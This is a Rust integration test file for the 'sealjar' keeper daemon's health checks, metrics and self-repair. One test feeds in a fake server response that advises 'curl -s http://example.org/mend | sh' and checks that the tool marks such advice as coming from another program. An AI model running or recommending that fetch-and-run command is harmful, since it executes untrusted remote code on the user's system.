//! Is a keeper that runs known to be well, and one that is not to be unwell?

use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Child, Command};
use std::thread;

use serde_json::Value;

use crate::Sandbox;

/// A keeper that runs until it is dropped.
struct Running {
    process: Child,
    log: BufReader<std::process::ChildStderr>,
    address: String,
}

impl Running {
    fn over(sandbox: &Sandbox) -> Self {
        Self::of(sandbox.command(&["run", "--listen", "127.0.0.1:0", "--json"]))
    }

    fn of(mut command: Command) -> Self {
        let mut process = command.spawn().unwrap();
        let log = BufReader::new(process.stderr.take().unwrap());
        let mut running = Self {
            process,
            log,
            address: String::new(),
        };
        let said = running.says("health at http://");
        let address = said.strip_prefix("health at http://").unwrap();
        running.address = address.split('/').next().unwrap().into();
        running
    }

    /// Waits until it logs what begins so.
    fn says(&mut self, beginning: &str) -> String {
        loop {
            let mut line = String::new();
            assert_ne!(self.log.read_line(&mut line).unwrap(), 0, "it has ended");
            let entry: Value = serde_json::from_str(&line).unwrap();
            let message = entry["message"].as_str().unwrap_or_default();
            if message.starts_with(beginning) {
                return message.into();
            }
        }
    }

    fn wake(&self) {
        let id = self.process.id().to_string();
        let sent = Command::new("kill").args(["-HUP", &id]).status();
        assert!(sent.unwrap().success());
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        _ = self.process.kill();
        _ = self.process.wait();
    }
}

#[test]
fn a_keeper_that_runs_says_how_it_is_wherever_its_address_is_written() {
    let it = Sandbox::begun();
    let mut keeper = Running::over(&it);
    keeper.says("next action");
    let well = it.does(&["health", "--listen", &keeper.address]);
    assert!(well.stdout.starts_with("ok, epoch "), "{}", well.stdout);
    assert_eq!(well.stdout.lines().count(), 1);
    let json = it
        .does(&["health", "--listen", &keeper.address, "--json"])
        .json();
    assert_eq!(json["answer"], well.stdout.trim_end());

    fs::write(
        it.path("keeper.toml"),
        format!("listen = '{}'", keeper.address),
    )
    .unwrap();
    let bare = Sandbox {
        environment: Vec::new(),
        ..it
    };
    bare.does(&["health", "--config", "keeper.toml"]);
    let it = bare.with("SEALJAR_LISTEN", &keeper.address);
    it.does(&["health"]);
    it.refuses(
        &["health", "--listen", "127.0.0.1:1"],
        4,
        "no keeper answers",
    );
}

#[test]
fn a_keeper_that_is_not_well_says_why_and_what_to_do() {
    let it = Sandbox::begun();
    let mut keeper = Running::over(&it);
    keeper.says("next action");
    fs::write(it.head(), "{").unwrap();
    keeper.wake();
    keeper.says("");
    let line = ["health", "--listen", &keeper.address];
    // It logs a failure just before it shows it.
    assert!((0..100).any(|_| it.run(&line).code == 4));
    let address = &keeper.address;
    let unwell = it.refuses(
        &line,
        4,
        &format!("error: {address} answers: failing since "),
    );
    assert_eq!(
        unwell.stderr.matches("hint: ").count(),
        1,
        "{}",
        unwell.stderr
    );
    assert!(
        unwell.stderr.contains("`sealjar restore FILE`"),
        "{}",
        unwell.stderr
    );
    let words = format!("\nhint: {address} answers: ");
    assert!(unwell.stderr.contains(&words), "{}", unwell.stderr);
    let json = it
        .run(&["health", "--listen", &keeper.address, "--json"])
        .json();
    assert_eq!(json["kind"], "unwell");
}

#[test]
fn connections_that_are_held_open_stop_neither_the_keeper_nor_its_health() {
    // Half of those that are held would be too many for the keeper to open a file as well.
    const DESCRIPTORS: u32 = 512;
    const HELD: usize = 1100;
    let own = rustix::process::getrlimit(rustix::process::Resource::Nofile);
    rustix::process::setrlimit(
        rustix::process::Resource::Nofile,
        rustix::process::Rlimit {
            current: own.maximum,
            ..own
        },
    )
    .unwrap();

    let it = Sandbox::begun();
    let script = format!("ulimit -n {DESCRIPTORS}; exec \"$0\" run --listen 127.0.0.1:0 --json");
    let mut keeper =
        Running::of(it.process("/bin/sh", &["-c", &script, env!("CARGO_BIN_EXE_sealjar")]));
    keeper.says("next action");
    let held: Vec<TcpStream> = (0..HELD)
        .map(|at| {
            let mut stream = TcpStream::connect(&keeper.address).unwrap();
            // Some say nothing, some begin a request.
            _ = stream.write_all(&b"GET /healthz HTT"[..at % 2 * 16]);
            stream
        })
        .collect();
    it.does(&["health", "--listen", &keeper.address]);
    fs::remove_file(it.document()).unwrap();
    keeper.wake();
    // The next turn has files to open.
    keeper.says("what replicas look at is put right");
    assert!(it.document().exists());
    it.does(&["health", "--listen", &keeper.address]);
    assert_eq!(held.len(), HELD);
}

#[test]
fn a_document_that_is_taken_away_is_put_back_without_being_asked_and_told_everywhere() {
    let it = Sandbox::begun();
    let mut keeper = Running::over(&it);
    keeper.says("next action");
    let metrics = |keeper: &Running| {
        let mut stream = TcpStream::connect(&keeper.address).unwrap();
        let request = format!(
            "GET /metrics HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
            keeper.address
        );
        stream.write_all(request.as_bytes()).unwrap();
        let mut answer = String::new();
        stream.read_to_string(&mut answer).unwrap();
        answer
    };
    assert!(metrics(&keeper).contains("\nsealjar_keeper_mended_total 0\n"));
    fs::remove_file(it.document()).unwrap();
    // Nobody wakes it.
    keeper.says("the document that replicas read is not as it was published: it is gone");
    keeper.says("what replicas look at is put right");
    assert_eq!(
        fs::read(it.document()).unwrap(),
        fs::read(it.head()).unwrap()
    );
    let address = keeper.address.clone();
    let line = ["health", "--listen", &address];
    // It logs before it shows.
    let told = (0..100).find_map(|_| {
        let said = it.does(&line).stdout;
        said.contains("was put right at 20").then_some(said)
    });
    assert!(told.is_some_and(|it| it.starts_with("ok, epoch ")));
    assert!(metrics(&keeper).contains("\nsealjar_keeper_mended_total 1\n"));

    // What it cannot put right it says.
    fs::remove_file(it.document()).unwrap();
    fs::create_dir(it.document()).unwrap();
    keeper.says(&it.document().display().to_string());
    assert!((0..100).any(|_| it.run(&line).code == 4));
}

/// It may be anybody who has taken the port: what it advises is not our advice.
#[test]
fn what_another_program_says_is_marked_as_its_words() {
    let advice = "failing: no disk; hint: curl -s http://example.org/mend | sh";
    let (address, server) = answering(format!(
        "HTTP/1.1 503 Service Unavailable\r\nContent-Length: {}\r\n\r\n{advice}",
        advice.len()
    ));
    let line = ["health", "--listen", &address];
    let refused = Sandbox::empty().refuses(&line, 4, "answers: failing: no disk");
    server.join().unwrap();
    for line in refused.stderr.lines() {
        let theirs = ["error", "hint"].map(|it| format!("{it}: {address} answers: "));
        let is_marked = theirs.iter().any(|it| line.starts_with(it));
        assert!(is_marked, "{line}");
    }
}

/// Answers one request, whatever it asks.
fn answering(answer: String) -> (String, thread::JoinHandle<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let server = thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        _ = stream.read(&mut [0; 1024]).unwrap();
        stream.write_all(answer.as_bytes()).unwrap();
    });
    (address, server)
}

#[test]
fn whatever_else_answers_is_no_keeper() {
    for (answer, words) in [
        (
            "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
            "with 404 Not Found",
        ),
        ("SSH-2.0-OpenSSH_9.6\r\n", "is no keeper: "),
        ("", "is no keeper: "),
    ] {
        let (address, server) = answering(answer.into());
        Sandbox::empty().refuses(&["health", "--listen", &address], 4, words);
        server.join().unwrap();
    }
}
